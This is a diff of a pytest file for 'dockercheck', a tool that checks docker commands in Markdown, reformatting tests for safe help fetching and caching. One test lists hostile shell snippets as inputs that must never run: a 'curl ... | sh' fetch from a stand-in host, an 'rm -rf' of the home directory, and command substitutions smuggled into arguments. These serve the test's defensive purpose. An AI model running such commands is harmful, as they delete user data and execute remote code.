@@ -3,18 +3,17 @@
 from __future__ import annotations
 
 import json
-import os
 import subprocess
 import sys
 
-import oracle
 import pytest
-from fakedocker import SNAPSHOT_FILE, assert_docker_argv, logging_docker, make_docker, python_fake
 
+import oracle
 from dockercheck import check_document, load_grammar
 from dockercheck.grammar import Grammar
-from dockercheck.sources import BOGUS_HOST, LiveDocker, Snapshot, SourceError, classify_probe
-from dockercheck.sources import SNAPSHOT_VERSION
+from dockercheck.profile import BOGUS_HOST
+from dockercheck.sources import SNAPSHOT_VERSION, LiveDocker, Snapshot, SourceError, classify_probe
+from fakedocker import SNAPSHOT_FILE, assert_docker_argv, logging_docker, make_docker, python_fake
 
 
 @pytest.fixture
@@ -35,21 +34,34 @@ def fake_docker(tmp_path, monkeypatch):
 def test_live_help_is_fetched_safely_then_cached(fake_docker):
     script, calls, cache = fake_docker
     text = "```sh\ndocker ps -a\ndocker container ls --format x\ndocker run --net host nginx\n```\n"
-    grammar = load_grammar("live", executable=str(script), cache_dir=cache, prefetch=[["ps"], ["container", "ls"], ["run"]])
+    grammar = load_grammar(
+        "live", executable=str(script), cache_dir=cache, prefetch=[["ps"], ["container", "ls"], ["run"]]
+    )
     assert grammar.kind == "live" and grammar.version == SNAPSHOT_VERSION
     report = check_document(grammar, text, "p.md")
     assert [f.code for f in report.findings] == ["DC101"]  # --net: hidden, docker says it exists
     grammar.source.save()
     first = calls()
     asked = sorted(tuple(c["argv"]) for c in first)  # fetched in parallel: any order
-    assert asked == sorted([("--version",), ("--help",), ("ps", "--help"), ("container", "--help"), ("run", "--help"),
-                            ("container", "ls", "--help"), ("container", "run", "--help", "--net")])
+    assert asked == sorted(
+        [
+            ("--version",),
+            ("--help",),
+            ("ps", "--help"),
+            ("container", "--help"),
+            ("run", "--help"),
+            ("container", "ls", "--help"),
+            ("container", "run", "--help", "--net"),
+        ]
+    )
     for call in first:
         assert_docker_argv(call["argv"])
         assert call["host"] == BOGUS_HOST  # the user's DOCKER_HOST never reaches docker
         assert call["entries"] == [] and call["stdin"] == "" and not call["stdin_tty"]
     # a second process: everything from the disk cache, docker not run at all
-    again = load_grammar("live", executable=str(script), cache_dir=cache, prefetch=[["ps"], ["container", "ls"], ["run"]])
+    again = load_grammar(
+        "live", executable=str(script), cache_dir=cache, prefetch=[["ps"], ["container", "ls"], ["run"]]
+    )
     check_document(again, text, "p.md")
     assert len(calls()) == len(first)
     assert "disk cache" in again.describe()
@@ -66,9 +78,9 @@ def test_snippets_never_run_and_docker_is_asked_only_about_its_own_tree(fake_doc
         f"docker run $(touch {canary}1) img",
         f"docker run `touch {canary}2` img",
         f"docker ps; rm -rf {home}",
-        f"curl http://example.invalid/x | sh; docker ps",
+        "curl http://example.invalid/x | sh; docker ps",
         f"docker $(touch {canary}3) --help",
-        f"eval \"$(touch {canary}4)\"; docker --definitely-not-a-flag",
+        f'eval "$(touch {canary}4)"; docker --definitely-not-a-flag',
         f"docker run --$(touch {canary}5) img",
         f"docker run -$(touch {canary}6) img",
         "docker ps --format '{{.Names}}'; docker rnu -p 80",
@@ -171,7 +183,7 @@ def test_the_snapshot_is_what_this_docker_says(tmp_path):
     ],
 )
 def test_a_damaged_cache_file_is_ignored(fake_docker, damage):
-    script, calls, cache = fake_docker
+    script, _, cache = fake_docker
     live = LiveDocker(str(script), cache_dir=cache)  # learn the file name of this docker's cache
     identity = live.cache_file.stem.rsplit("-", 1)[-1]
     cache.mkdir(parents=True, exist_ok=True)
